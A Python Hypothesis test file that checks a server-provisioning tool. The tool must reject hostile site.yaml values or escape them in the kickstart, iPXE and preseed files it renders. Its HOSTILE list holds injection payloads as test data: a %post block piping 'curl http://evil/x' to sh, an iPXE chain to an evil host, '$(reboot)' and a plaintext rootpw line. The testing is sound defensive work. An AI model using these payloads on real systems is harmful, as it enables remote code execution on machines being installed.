"""Hostile site.yaml values (issue 18): refused by validate naming the field, or harmless.

For each text field that reaches a generated file, Hypothesis mixes valid
values with hostile pieces (line breaks of every kind, NUL, quotes, ``%post``,
``${...}``, ``{{ }}``, an iPXE ``chain``). Two properties:

* validate: the value is refused with an error naming the section/node and the
  field, or the site is valid;
* render: the value is put into an already loaded site *without* validation
  (as if it had slipped through) and the kickstart, iPXE script and preseed
  are rendered; either the template's escaping refuses it (an error naming the
  node) or the output has exactly the lines of a clean render: same count,
  same kickstart commands and sections (pykickstart parses it), same iPXE
  commands, same debconf questions.
"""

from __future__ import annotations

import base64
import copy
import shutil
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from provisioner.bootserver.bootscript import BootTemplates, decide
from provisioner.errors import ConfigError
from provisioner.install.kickstart import render_kickstart
from provisioner.install.preseed import render_preseed
from provisioner.inventory import Site, load_site
from provisioner.inventory.loader import parse_site
from provisioner.inventory.models import DiskHints
from provisioner.inventory.yamlload import load_yaml_file
from tests.conftest import EXAMPLE_SITE, REPO
from tests.example_secrets import seed_example_secrets
from tests.unit.install.kshelpers import BASE_URL, parse, parse_preseed

HOSTILE = [
    "\n",
    "\r",
    "\r\n",
    "\x00",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x85",
    "\u2028",
    "\u2029",
    "\t",
    " ",
    '"',
    "'",
    "`",
    "\\",
    "#",
    ";",
    "|",
    "&&",
    "||",
    "$(reboot)",
    "${net0/ip}",
    "{{ 7*7 }}",
    "{% raw %}",
    "%post",
    "%end",
    "\n%post\ncurl http://evil/x|sh\n%end\n",
    "\nrootpw --plaintext injected\n",
    "\nchain http://evil/x\n",
    " chain http://evil/x",
    " inst.ks=http://evil/ks",
    "../",
    "/etc/passwd",
    "..",
    "é",
]


def _key(kind: str = "ssh-ed25519") -> str:
    blob = struct.pack(">I", len(kind)) + kind.encode() + struct.pack(">I", 32) + bytes(range(32))
    return f"{kind} {base64.b64encode(blob).decode()} admin@example"


def hostile(valid: list[str]) -> st.SearchStrategy[str]:
    """A valid value, or one with hostile pieces before, after or instead of it."""
    piece = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=3))
    spoilt = st.tuples(
        st.sampled_from(valid),
        st.lists(piece, min_size=1, max_size=3).map("".join),
        st.sampled_from(["before", "after", "instead"]),
    ).map(lambda t: {"before": t[1] + t[0], "after": t[0] + t[1], "instead": t[1]}[t[2]])
    return st.one_of(st.sampled_from(valid), spoilt)


# (raw path, in a list?, where, field, valid values)
FIELDS: dict[str, tuple[tuple[str | int, ...], bool, str, str, list[str]]] = {
    "kernel_args": (
        ("profiles", "rocky9", "kernel_args"),
        False,
        "profile rocky9",
        "kernel_args",
        ["console=ttyS0,115200", "quiet net.ifnames=0"],
    ),
    "repo": (
        ("profiles", "rocky9", "repo"),
        False,
        "profile rocky9",
        "repo",
        ["http://192.0.2.2:8080/repo/", "nfs:192.0.2.2:/repo", "https://mirror.test/a?b=1"],
    ),
    "kernel": (
        ("profiles", "rocky9", "kernel"),
        False,
        "profile rocky9",
        "kernel",
        ["rocky9/vmlinuz", "http://192.0.2.2/vmlinuz"],
    ),
    "initrd": (("profiles", "rocky9", "initrd"), False, "profile rocky9", "initrd", ["a/i.img"]),
    "kickstart": (
        ("profiles", "rocky9", "kickstart"),
        False,
        "profile rocky9",
        "kickstart",
        ["default.ks.j2"],
    ),
    "layout": (("roles", "controller", "layout"), False, "role controller", "layout", ["x"]),
    "hooks": (("roles", "controller", "hooks"), True, "role controller", "hooks[0]", ["common"]),
    "packages": (
        ("roles", "controller", "packages"),
        True,
        "role controller",
        "packages[0]",
        ["vim-enhanced", "@^minimal-environment", "libstdc++"],
    ),
    "ssh_keys": (("defaults", "ssh_keys"), True, "defaults", "ssh_keys[0]", [_key()]),
    "timezone": (("defaults", "timezone"), False, "defaults", "timezone", ["Europe/Paris"]),
    "language": (("defaults", "language"), False, "defaults", "language", ["de_DE.UTF-8"]),
    "rack": (("nodes", 0, "rack"), False, "node ctl1", "rack", ["r1"]),
    "bmc.user": (("nodes", 0, "bmc", "user"), False, "node ctl1", "bmc.user", ["ADMIN"]),
    "bmc.address": (("nodes", 0, "bmc", "address"), False, "node ctl1", "bmc.address", ["bmc1"]),
    "macs": (("nodes", 0, "macs"), True, "node ctl1", "macs[0]", ["52:54:00:00:02:0b"]),
    "disks.serial": (
        ("nodes", 0, "disks", "serial"),
        False,
        "node ctl1",
        "disks.serial",
        ["S3Z9NB0K", "WD WX41"],
    ),
    "disks.wwn": (("nodes", 0, "disks", "wwn"), False, "node ctl1", "disks.wwn", ["0x5000c500a1"]),
}

FAST = settings(
    max_examples=40,
    deadline=None,
    database=None,  # nothing written into the checkout
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture(scope="module")
def site_copy(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    shutil.copy(EXAMPLE_SITE, folder / "site.yaml")
    shutil.copytree(REPO / "examples" / "secrets", folder / "secrets")
    seed_example_secrets(folder / "secrets")
    return folder


@pytest.fixture(scope="module")
def raw(site_copy: Path) -> Any:
    return load_yaml_file(site_copy / "site.yaml")


@pytest.fixture(scope="module")
def site(site_copy: Path) -> Site:
    return load_site(site_copy / "site.yaml")


def _set(data: Any, path: tuple[str | int, ...], value: Any) -> None:
    for part in path[:-1]:
        data = data[part]
    data[path[-1]] = value


@pytest.mark.parametrize("name", sorted(FIELDS))
def test_validate_refuses_hostile_values_naming_the_field(
    name: str, raw: Any, site_copy: Path
) -> None:
    path, listed, where, field, valid = FIELDS[name]

    @FAST
    @given(value=hostile(valid))
    def check(value: str) -> None:
        data = copy.deepcopy(raw)
        _set(data, path, [value] if listed else value)
        site, problems = parse_site(data, site_copy / "site.yaml")
        errors = [p for p in problems if p.severity == "error"]
        if errors:
            assert [(p.where, p.field) for p in errors] == [(where, field)], errors
            assert all("\n" not in str(p) and "\u2028" not in str(p) for p in errors)
        else:
            assert site is not None

    check()


# -- rendering with values that slipped through ---------------------------------------


def _profile(site: Site, **update: Any) -> Site:
    profiles = dict(site.profiles)
    profiles["rocky9"] = profiles["rocky9"].model_copy(update=update)
    return site.model_copy(update={"profiles": profiles})


def _defaults(site: Site, **update: Any) -> Site:
    return site.model_copy(update={"defaults": site.defaults.model_copy(update=update)})


def _packages(site: Site, value: str) -> Site:
    roles = dict(site.roles)
    roles["controller"] = roles["controller"].model_copy(update={"packages": [value]})
    return site.model_copy(update={"roles": roles})


def _serial(site: Site, value: str) -> Site:
    nodes = list(site.nodes)
    disks = DiskHints.model_construct(count=2, min_size_gb=20, serial=value)
    nodes[0] = nodes[0].model_copy(update={"disks": disks})
    return site.model_copy(update={"nodes": nodes})


INJECT: dict[str, tuple[Callable[[Site, str], Site], str]] = {
    "kernel_args": (lambda s, v: _profile(s, kernel_args=v), "console=ttyS0"),
    "repo": (lambda s, v: _profile(s, repo=v), "http://192.0.2.2:8080/repo/"),
    "kernel": (lambda s, v: _profile(s, kernel=v), "rocky9/vmlinuz"),
    "initrd": (lambda s, v: _profile(s, initrd=v), "rocky9/initrd.img"),
    "ssh_keys": (lambda s, v: _defaults(s, ssh_keys=[v]), _key()),
    "timezone": (lambda s, v: _defaults(s, timezone=v), "Europe/Paris"),
    "language": (lambda s, v: _defaults(s, language=v), "de_DE.UTF-8"),
    "packages": (_packages, "vim-enhanced"),
    "disks.serial": (_serial, "S3Z9NB0K"),
}


def _renders(site: Site) -> dict[str, str | ConfigError]:
    """ctl1's kickstart, iPXE install script and (as a Debian node) preseed, each rendered
    on its own: a refusal in one must not hide an injection in another."""
    node = site.nodes[0]
    debian = _profile(site, os_family="debian", kickstart="preseed.cfg.j2")
    pxe = site.content_paths().search_path("pxe")
    renders: dict[str, Callable[[], str]] = {
        "ks": lambda: render_kickstart(site, node, token="TOKEN", base_url=BASE_URL),
        "ipxe": lambda: BootTemplates().render(
            decide(site, node.primary_mac, node, True, "TOKEN", BASE_URL), pxe
        ),
        "preseed": lambda: render_preseed(
            debian, debian.nodes[0], token="TOKEN", base_url=BASE_URL
        ),
    }
    out: dict[str, str | ConfigError] = {}
    for kind, make in renders.items():
        try:
            out[kind] = make()
        except ConfigError as exc:  # TemplateError, BootTemplateError, a bad mirror URL
            out[kind] = exc
    return out


def _ks_shape(text: str) -> tuple[list[str], list[str], int]:
    """Command keywords and section headers of a kickstart, and its script count
    (pykickstart must parse it)."""
    handler = parse(text)
    commands, sections, inside = [], [], False
    for line in text.splitlines():
        first = (line.split() or [""])[0]
        if first.startswith("%") and first not in ("%include", "%end"):
            sections.append(first)
            inside = True
        elif first == "%end":
            sections.append(first)
            inside = False
        elif not inside and first and not first.startswith("#"):
            commands.append(first)
    return commands, sections, len(handler.scripts)  # type: ignore[attr-defined]


def _first_words(text: str) -> list[str]:
    return [(line.split() or [""])[0] for line in text.splitlines()]


@pytest.mark.parametrize("name", sorted(INJECT))
def test_escaping_keeps_slipped_values_on_their_line(name: str, site: Site) -> None:
    inject, clean_value = INJECT[name]
    clean = _renders(inject(site, clean_value))
    assert all(isinstance(text, str) for text in clean.values()), clean
    clean_ks = _ks_shape(str(clean["ks"]))
    checks: dict[str, Callable[[str], Any]] = {
        "ks": _ks_shape,
        "ipxe": _first_words,
        "preseed": lambda text: parse_preseed(text).keys(),
    }

    @settings(FAST, max_examples=25)  # three renders an example
    @given(value=hostile([clean_value]))
    @example(value="--")  # argparse, under kickstart, drops it even quoted (CI found it)
    @example(value="-x")
    def check(value: str) -> None:
        assume(value != "")  # an empty disk hint takes another branch of the template
        dirty = _renders(inject(site, value))
        for kind, text in dirty.items():
            if isinstance(text, ConfigError):  # the escaping refused it, naming the node
                assert "node ctl1" in str(text), (kind, text)
                continue
            assert len(text.splitlines()) == len(str(clean[kind]).splitlines()), kind
            shape = clean_ks if kind == "ks" else checks[kind](str(clean[kind]))
            assert checks[kind](text) == shape, kind

    check()
